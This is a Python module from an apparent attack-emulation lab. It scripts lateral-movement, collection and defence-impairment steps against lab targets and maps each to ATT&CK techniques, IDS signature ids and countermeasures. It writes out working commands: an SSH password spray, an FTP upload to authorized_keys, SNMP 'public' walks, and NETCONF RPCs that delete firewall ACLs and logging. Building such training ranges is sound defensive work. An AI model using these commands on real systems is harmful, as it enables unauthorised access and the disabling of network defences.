"""Moving and collecting inside: from host to host, from device to device."""

from __future__ import annotations

from collections.abc import Iterable
from typing import ClassVar

from labs.scenario import Stage
from labs.services.ssh import account

from .base import Exchange, Red, Tool
from .kit import COLLECTION, CURL, LATERAL_MOVEMENT, exchange, literal
from .means_b_kit import DEFENSE_IMPAIRMENT, PRIVILEGE_ESCALATION, UDP, Command, Scripted, Talk, word_list

SSH = Tool(program="ssh", package="openssh-client")
SNMP = Tool(program="snmpwalk", package="snmp")
SSH_OPTIONS = (
    *("-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"),
    *("-o", "GlobalKnownHostsFile=/dev/null", "-o", "ConnectTimeout=2", "-o", "NumberOfPasswordPrompts=1"),
    *("-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password", "-o", "LogLevel=ERROR"),
)
SYSTEM_GROUP = "1.3.6.1.2.1.1"
TOOL_BYTES = 20_000
FRAME = "]]>]]>"
HELLO = '<hello xmlns="urn:ietf:params:xml:ns:netconf:base:1.0"><capabilities/></hello>' + FRAME


def with_password(red: Red, name: str, password: str, argv: list[str]) -> list[str]:
    """The command line that gives ssh or scp a password without a terminal."""
    helper = red.scratch() / f"ask-{name}"
    helper.write_text(f"#!/bin/sh\necho '{password}'\n", encoding="utf-8")
    helper.chmod(0o755)
    return ["env", f"SSH_ASKPASS={helper}", "SSH_ASKPASS_REQUIRE=force", "DISPLAY=none", *argv]


class SshPivot(Scripted):
    """Stolen passwords, tried from inside; the last one opens."""

    id = "ssh-pivot"
    about = "A taken host logs in to the next with passwords found on it"
    tactic = LATERAL_MOVEMENT
    technique = "T1021.004"
    service_kinds = ("ssh",)
    tools = (SSH,)
    countered_by = ("secure_sshd", "disable_account", "close_port", "stop_process")
    port = 22
    sid, classification, app = 9002010, "misc-attack", "ssh"

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """Five logins."""
        name, right = account(self.id)
        target = ["-p", str(self.at(stage)), f"{name}@{stage.target}", "id"]
        for n, password in enumerate(("found-1", "found-2", "found-3", "found-4", right)):
            argv = ["ssh", *SSH_OPTIONS, *target]
            yield Command(with_password(red, f"{name}{n}", password, argv), 8)


class WormSpread(Talk):
    """The forgotten debug command of an old mail server, after the worm of 1988: the word alone, nothing to run."""

    id = "worm-spread"
    about = "A worm's knock: the DEBUG command of an old mail server"
    tactic = LATERAL_MOVEMENT
    technique = "T1210"
    service_kinds = ("smtp",)
    countered_by = ("patch_vulnerability", "close_port", "stop_process")
    port = 25
    says = ("HELO worm\r\n", "DEBUG\r\n", "QUIT\r\n")
    speaks_first = True
    sid, classification, app = 9002011, "misc-attack", "smtp"


class FtpUpload(Scripted):
    """Something is put where anybody may put it; the receipt proves it. The server counts and forgets."""

    service_kinds: ClassVar[tuple[str, ...]] = ("ftp",)
    tools: ClassVar[tuple[Tool, ...]] = (CURL,)
    countered_by: ClassVar[tuple[str, ...]] = ("patch_vulnerability", "close_port", "stop_process")
    port = 21
    path: ClassVar[str]
    bytes_needed = TOOL_BYTES

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """One upload of some kilobytes of nothing."""
        file = word_list(red, "parcel", ["SECLOOP harmless filler"] * (TOOL_BYTES // 24))
        url = f"ftp://{literal(stage.target)}:{self.at(stage)}/{self.path}"
        argv = ["curl", "-v", "-sS", "--ftp-method", "nocwd", "--connect-timeout", "2", "--max-time", "6"]
        yield Command([*argv, "-u", "anonymous:guest@", "-T", file, url])


class LateralToolTransfer(FtpUpload):
    """A tool goes from one inner host to the next."""

    id = "lateral-tool-transfer"
    about = "A taken host puts a tool on the next one by FTP"
    tactic = LATERAL_MOVEMENT
    technique = "T1570"
    path = "incoming/tool"
    sid, classification = 9002012, "misc-attack"


class AuthorizedKeys(FtpUpload):
    """A key is put where logins look for it."""

    id = "authorized-keys"
    about = "A writable home folder takes the attacker's login key by FTP"
    tactic = PRIVILEGE_ESCALATION
    technique = "T1098.004"
    path = ".ssh/authorized_keys"
    sid, classification = 9002013, "attempted-admin"


class VncLogin(Talk):
    """A screen without a password."""

    id = "vnc-login"
    about = "A remote screen that asks for no password"
    tactic = LATERAL_MOVEMENT
    technique = "T1021.005"
    service_kinds = ("vnc",)
    countered_by = ("patch_vulnerability", "close_port", "stop_process")
    port = 5900
    says = ("RFB 003.008\n", "\x01", "\x01")
    speaks_first = True
    sid, classification, app = 9002014, "policy-violation", "rfb"


class SnmpMibDump(Scripted):
    """What a device tells to everybody who knows the word public."""

    id = "snmp-mib-dump"
    about = "snmpwalk reads a device with the community everybody knows"
    tactic = COLLECTION
    technique = "T1602.001"
    service_kinds = ("snmp",)
    tools = (SNMP,)
    countered_by = ("patch_vulnerability", "close_port", "stop_process")
    port = 161
    transport = UDP
    sid, classification, app, handshake = 9002015, "attempted-recon", "snmp", False

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """The system group."""
        agent = f"udp:{literal(stage.target)}:{self.at(stage)}"
        yield Command(["snmpwalk", "-v2c", "-c", "public", "-t", "1", "-r", "1", "-On", agent, SYSTEM_GROUP])


class Rpc(Talk):
    """An RPC to a device's management in clear text, which only a careless one answers.

    Class attributes:
        body: of the RPC.
        mark: its message id, by which our weak server knows it.
    """

    service_kinds = ("netconf",)
    countered_by = ("patch_vulnerability", "close_port", "stop_process")
    port = 830
    speaks_first = True
    mark: ClassVar[str]
    body: ClassVar[str]

    def rounds(self, stage: Stage) -> list[list[str]]:
        """Hello, and the RPC."""
        return [[HELLO, f'<rpc message-id="{self.mark}">{self.body}</rpc>{FRAME}']]


class NetconfConfigDump(Rpc):
    """A device's whole configuration."""

    id = "netconf-config-dump"
    about = "A stranger asks a device for its configuration"
    tactic = COLLECTION
    technique = "T1602.002"
    mark, body = "lab-get", "<get-config><source><running/></source></get-config>"
    sid, classification = 9002016, "attempted-recon"


class FirewallOff(Rpc):
    """A device is told to take its filter away."""

    id = "firewall-off"
    about = "A stranger deletes a device's access lists"
    tactic = DEFENSE_IMPAIRMENT
    technique = "T1686"
    mark, body = "lab-acl", '<edit-config><config><acls operation="delete"/></config></edit-config>'
    sid, classification = 9002017, "attempted-admin"


class LoggingOff(Rpc):
    """A device is told to keep quiet."""

    id = "logging-off"
    about = "A stranger deletes a device's logging"
    tactic = DEFENSE_IMPAIRMENT
    technique = "T1685"
    mark, body = "lab-log", '<edit-config><config><syslog operation="delete"/></config></edit-config>'
    sid, classification = 9002018, "attempted-admin"


def both_ways(stage: Stage, *ports: int) -> tuple[Exchange, ...]:
    """An exchange for each port."""
    return tuple(exchange(stage, port) for port in ports)
